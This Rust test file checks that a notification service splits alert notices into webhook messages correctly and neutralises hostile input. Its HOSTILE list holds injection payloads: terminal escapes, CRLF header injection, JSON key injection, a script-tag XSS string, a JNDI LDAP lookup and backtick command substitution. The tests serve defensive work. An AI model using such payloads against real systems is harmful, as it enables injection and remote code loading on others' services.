//! What holds for every kind: nothing is lost or told twice, ids repeat, limits hold, and texts do no harm.

use std::collections::BTreeSet;

use patrol_api::receiver::Locale;
use patrol_core::notice::{Notice, NoticeKind, NoticeTicket};
use patrol_notify::kinds::{self, Style};
use proptest::prelude::*;
use serde_json::Value;

use crate::samples::*;

fn any_ticket() -> impl Strategy<Value = (u8, usize, bool)> {
    (0u8..4, 0usize..3_000, any::<bool>())
}

fn made(number: usize, (what, filler, numbered): (u8, usize, bool)) -> NoticeTicket {
    let mut ticket = match what {
        0 => closed(number),
        1 => breached(number),
        _ => ticket(number),
    };
    ticket.message = "x".repeat(filler);
    ticket.alarm.numbered = numbered;
    ticket
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// The union of all parts is what was due, each telling once; a repeat is the same byte for byte.
    #[test]
    fn every_telling_is_in_exactly_one_part(
        tickets in proptest::collection::vec(any_ticket(), 0..80),
        standing in 0u32..3_000,
        minimal in any::<bool>(),
    ) {
        let tickets = tickets.into_iter().enumerate().map(|(n, t)| made(n, t)).collect();
        let notice = Notice { standing, ..notice(tickets) };
        let owed: BTreeSet<&str> = notice.tickets.iter().map(|t| t.event_id.as_str()).collect();
        for (name, endpoint) in endpoints() {
            for locale in [Locale::En, Locale::ZhCn] {
                let style = Style { locale, minimal };
                let parts = kinds::render(&endpoint, &notice, style);
                prop_assert!(!parts.is_empty(), "{}", name);
                let told: Vec<&str> = parts.iter().flat_map(|p| &p.event_ids).map(String::as_str).collect();
                prop_assert_eq!(told.len(), owed.len(), "{}", name);
                prop_assert_eq!(&told.into_iter().collect::<BTreeSet<_>>(), &owed, "{}", name);
                let ids: BTreeSet<&str> = parts.iter().map(|p| p.webhook_id.as_str()).collect();
                prop_assert_eq!(ids.len(), parts.len(), "{}", name);
                let limits = kinds::limits(&endpoint, style);
                for part in &parts {
                    prop_assert!(part.by_number <= part.event_ids.len());
                    prop_assert!(
                        part.body.len() <= limits.max_bytes || part.event_ids.len() <= 1,
                        "{}: {} bytes", name, part.body.len()
                    );
                    prop_assert!(serde_json::from_slice::<Value>(&part.body).is_ok());
                }
                prop_assert_eq!(kinds::render(&endpoint, &notice, style), parts);
            }
        }
    }
}

/// Names, annotations and titles as an attacker writes them.
const HOSTILE: &[&str] = &[
    "a\u{1b}[31mred\u{7}",
    "a\u{202e}gnp.exe\u{2066}",
    "a\r\nHost: evil\r\n\r\n",
    "\"}],\"routing_key\":\"stolen\",\"x\":[{\"",
    "</script><script>alert(1)</script>",
    "@all <@U1> <!channel> <at id=all></at>",
    "[click](http://evil.example.com)",
    "{{ template \"x\" . }} ${jndi:ldap://evil} `id`",
    "a\u{0}b\u{200b}c\u{feff}",
    "名称\u{2028}第二行",
];

fn control(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{206f}' | '\u{200b}' | '\u{feff}')
}

fn texts(value: &Value) -> Vec<String> {
    match value {
        Value::String(text) => vec![text.clone()],
        Value::Array(items) => items.iter().flat_map(texts).collect(),
        Value::Object(fields) => fields
            .iter()
            .flat_map(|(name, value)| [vec![name.clone()], texts(value)].concat())
            .collect(),
        _ => vec![],
    }
}

fn shape(value: &Value) -> Value {
    match value {
        Value::String(_) => Value::Null,
        Value::Array(items) => items.iter().map(shape).collect(),
        Value::Object(fields) => fields
            .iter()
            .map(|(name, value)| (name.clone(), shape(value)))
            .collect(),
        other => other.clone(),
    }
}

/// F36: a hostile text stays a text: no key is added, none is lost, and nothing in it steers a terminal.
#[test]
fn f36_hostile_texts_stay_texts() {
    for nasty in HOSTILE {
        let mut one = breached(1);
        one.namespace = (*nasty).into();
        one.name = (*nasty).into();
        one.subject.name = (*nasty).into();
        one.subject_ref = (*nasty).into();
        one.title = (*nasty).into();
        one.message = (*nasty).into();
        one.remediation = (*nasty).into();
        one.assignee = Some((*nasty).into());
        one.requirement = Some((*nasty).into());
        let mut hostile = notice(vec![one]);
        hostile.cluster.name = (*nasty).into();
        let mut plain = notice(vec![breached(1)]);
        plain.cluster.name = "prod".into();
        for (name, endpoint) in endpoints() {
            let parts = render(&endpoint, &hostile);
            let alike = render(&endpoint, &plain);
            assert_eq!(parts.len(), alike.len(), "{name}");
            for (part, other) in parts.iter().zip(&alike) {
                let value = body(part);
                assert_eq!(shape(&value), shape(&body(other)), "{name}: {nasty}");
                for text in texts(&value) {
                    assert!(!text.chars().any(control), "{name}: {text:?}");
                    // People copy it into a shell.
                    let safe = |c: char| c.is_ascii_alphanumeric() || " -.".contains(c);
                    let command = text.starts_with("kubectl ");
                    assert!(!command || text.chars().all(safe), "{name}: {text:?}");
                }
            }
        }
    }
}

/// Whoever asked to be told little is told no word of people or of the cluster's inside.
#[test]
fn minimal_leaves_out_what_people_wrote() {
    let mut one = breached(1);
    for text in [&mut one.title, &mut one.message, &mut one.remediation] {
        *text = "S3CRET".into();
    }
    one.assignee = Some("S3CRET".into());
    one.subject.name = "S3CRET".into();
    one.subject.uid = Some("S3CRET".into());
    one.subject_ref = "Deployment/S3CRET".into();
    let notice = notice(vec![one]);
    for (name, endpoint) in endpoints() {
        let style = Style {
            minimal: true,
            ..STYLE
        };
        for part in kinds::render(&endpoint, &notice, style) {
            let text = String::from_utf8(part.body).unwrap();
            assert!(!text.contains("S3CRET"), "{name}: {text}");
        }
    }
}

/// A sign of life and a probe are messages of every kind, and no two of them look alike.
#[test]
fn signs_have_ids_of_their_own() {
    for (name, endpoint) in endpoints() {
        let mut ids = BTreeSet::new();
        for kind in [NoticeKind::Heartbeat, NoticeKind::Test] {
            let parts = render(&endpoint, &bare(kind));
            assert!(!parts.is_empty(), "{name}");
            for part in parts {
                assert!(part.event_ids.is_empty(), "{name}");
                assert!(ids.insert(part.webhook_id), "{name}");
            }
        }
    }
}
